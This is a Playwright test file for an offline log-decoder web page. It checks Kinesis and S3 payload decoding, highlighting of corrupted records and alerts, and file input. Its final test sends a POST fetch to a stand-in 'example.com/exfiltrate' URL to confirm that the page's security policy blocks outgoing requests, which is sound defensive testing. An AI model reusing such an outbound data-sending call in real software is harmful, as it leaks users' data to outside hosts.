// The decoder page in a real headless Chromium (Debian's package, driven
// by playwright-core): opened from file://, the seed's example pasted, the
// documents, an alert and an error document shown, and not one request
// leaving the page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';

import { fixturesDir, jsOut } from './fixtures.mjs';

const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
const seedText = readFileSync(join(fixturesDir, 'seed-kinesis-event.json'), 'utf8');
const pageUrl = pathToFileURL(join(jsOut, 'decoder.html')).href;

let browser;
let page;
const requests = [];

before(async () => {
  assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing (apt-get install chromium)`);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    // The machine has no network: keep Chromium from trying its own hosts.
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  page.on('request', (request) => {
    if (request.url() !== pageUrl) requests.push(request.url());
  });
  page.on('pageerror', (error) => requests.push(`page error: ${error.message}`));
  await page.goto(pageUrl);
  await page.waitForSelector('body[data-ready="true"]');
});

after(async () => {
  await browser?.close();
});

async function paste(text) {
  await page.fill('#input', text);
  await page.click('#decode');
}

async function tableRows() {
  return page.$$eval('#results tbody tr.row', (rows) => rows.map((row) => ({
    kind: row.dataset.kind,
    id: row.dataset.id,
    cells: [...row.cells].map((cell) => cell.textContent),
    classes: row.className,
  })));
}

/** The seed's event with a third record whose gzip is cut short. */
function seedWithCorruptedRecord() {
  const event = JSON.parse(seedText);
  const good = event.Records[0];
  const data = Buffer.from(good.kinesis.data, 'base64');
  const corrupted = structuredClone(good);
  corrupted.kinesis.data = data.subarray(0, data.length - 40).toString('base64');
  corrupted.kinesis.sequenceNumber = '49545115243490985018280067714973144582180062593244200999';
  corrupted.eventID = `shardId-000000000000:${corrupted.kinesis.sequenceNumber}`;
  event.Records.push(corrupted);
  return JSON.stringify(event, null, 2);
}

test('the seed example pasted: two documents, the NDJSON as the core writes it', async () => {
  await paste(seedText);
  const rows = await tableRows();
  assert.deepEqual(rows.map((row) => row.kind), ['document', 'document']);
  assert.deepEqual(rows.map((row) => row.id), [
    '33937864433052288198345880427171302362958917358574829568',
    '33937864433052288198345880427171302362958917358574829569',
  ]);
  assert.equal(rows[0].cells[1], '2018-03-23T17:34:34.000Z');
  assert.equal(rows[0].cells[2], 'devplanetv1');
  assert.match(rows[0].cells[3], /^kubernetes\.var\.log\.containers\.sheepdog-deployment-1767503258-n23ck/);
  assert.match(rows[0].cells[4], /GET \/_status => generated 7 bytes/);
  const expected = readFileSync(join(fixturesDir, 'seed-kinesis-event.expected.ndjson'), 'utf8');
  assert.equal(await page.inputValue('#ndjson'), expected.slice(0, expected.lastIndexOf('{"counters"')));
  assert.match(await page.textContent('#summary'), /2 documents, 0 alerts, 0 errors, 1 records, 2 events/);
});

test('a corrupted record becomes a highlighted error document; the good ones still decode', async () => {
  await paste(seedWithCorruptedRecord());
  const rows = await tableRows();
  assert.deepEqual(rows.map((row) => row.kind), ['document', 'document', 'error']);
  const error = rows[2];
  assert.match(error.cells[4], /^gzip: Kinesis record 1 \(sequenceNumber 49545115243490985018280067714973144582180062593244200999\): gzip data/);
  assert.match(error.id, /^err-[0-9a-f]{32}$/);
  const background = await page.$eval('#results tbody tr.error', (row) => getComputedStyle(row).backgroundColor);
  assert.equal(background, 'rgb(253, 231, 231)');
  // Its row opens the whole error document, raw data included.
  await page.click('#results tbody tr.error');
  const detail = JSON.parse(await page.textContent('#results tbody tr.detail pre'));
  assert.equal(detail.error.kind, 'gzip');
  assert.equal(detail.raw_encoding, 'text');
  assert.ok(detail.raw_data.length > 100);
  if (process.env.SCREENSHOT) {
    await page.mouse.move(0, 0);
    await page.screenshot({ path: process.env.SCREENSHOT, fullPage: true });
  }
});

test('options: the alerts fixture with a threshold shows highlighted alerts; search narrows the rows', async () => {
  await paste(readFileSync(join(fixturesDir, 'alerts.json'), 'utf8'));
  assert.equal((await tableRows()).filter((row) => row.kind === 'alert').length, 0, 'no threshold, no alerts');
  await page.fill('#threshold', '65');
  await page.fill('#streams', 'revproxy, sheepdog, peregrine');
  await page.fill('#commons', 'devplanetv1');
  await page.click('#decode');
  const rows = await tableRows();
  const expected = readFileSync(join(fixturesDir, 'alerts.expected.ndjson'), 'utf8');
  const expectedAlerts = expected.split('\n').filter((line) => line.startsWith('{"alert"')).length;
  assert.ok(expectedAlerts > 0);
  const alerts = rows.filter((row) => row.kind === 'alert');
  assert.equal(alerts.length, expectedAlerts);
  for (const alert of alerts) {
    const document = rows.find((row) => row.kind === 'document' && row.id === alert.id);
    assert.match(document.classes, /alerted/);
    assert.match(alert.cells[4], /^Slow response: [0-9.]+ s\./);
  }
  assert.equal(await page.inputValue('#ndjson'), expected.slice(0, expected.lastIndexOf('{"counters"')));
  await page.fill('#search', 'slow response');
  const found = await tableRows();
  assert.ok(found.length >= alerts.length && found.length < rows.length);
  await page.fill('#search', '');
  await page.fill('#threshold', '');
  await page.fill('#streams', '');
  await page.fill('#commons', '');
});

test('a binary file dropped on the payload box (an S3 archive) decodes as bytes', async () => {
  const archive = [...readFileSync(join(fixturesDir, 's3-archive.gz'))];
  const dataTransfer = await page.evaluateHandle((bytes) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([new Uint8Array(bytes)], 's3-archive.gz', { type: 'application/gzip' }));
    return transfer;
  }, archive);
  await page.dispatchEvent('#input', 'drop', { dataTransfer });
  await page.waitForFunction(() => document.querySelector('#file-note').textContent.includes('binary'));
  const expected = readFileSync(join(fixturesDir, 's3-archive.expected.ndjson'), 'utf8');
  await page.waitForFunction((lines) => document.querySelectorAll('#results tbody tr.row').length === lines, expected.split('\n').length - 2);
  assert.equal(await page.inputValue('#ndjson'), expected.slice(0, expected.lastIndexOf('{"counters"')));
});

test('a text file opened with the file picker lands in the payload box', async () => {
  await page.setInputFiles('#file', { name: 'seed.json', mimeType: 'application/json', buffer: Buffer.from(seedText) });
  await page.waitForFunction(() => document.querySelectorAll('#results tbody tr.row').length === 2);
  assert.equal(await page.inputValue('#input'), seedText);
  assert.equal(await page.textContent('#file-note'), '');
});

test('bad options are reported, not thrown away', async () => {
  await paste(seedText);
  await page.evaluate(() => { document.querySelector('#threshold').type = 'text'; });
  await page.fill('#threshold', 'soon');
  await page.click('#decode');
  assert.match(await page.textContent('#problem'), /threshold "soon" is not a number/);
  await page.fill('#threshold', '');
  await page.click('#decode');
  assert.equal(await page.textContent('#problem'), '');
});

test('nothing left the page: no request but the page itself, no script error; the policy blocks any', async () => {
  assert.deepEqual(requests, []);
  const attempt = await page.evaluate(async () => {
    const violation = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }));
    const outcome = await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
    return { outcome, directive: await violation };
  });
  assert.deepEqual(attempt, { outcome: 'refused', directive: 'connect-src' });
});
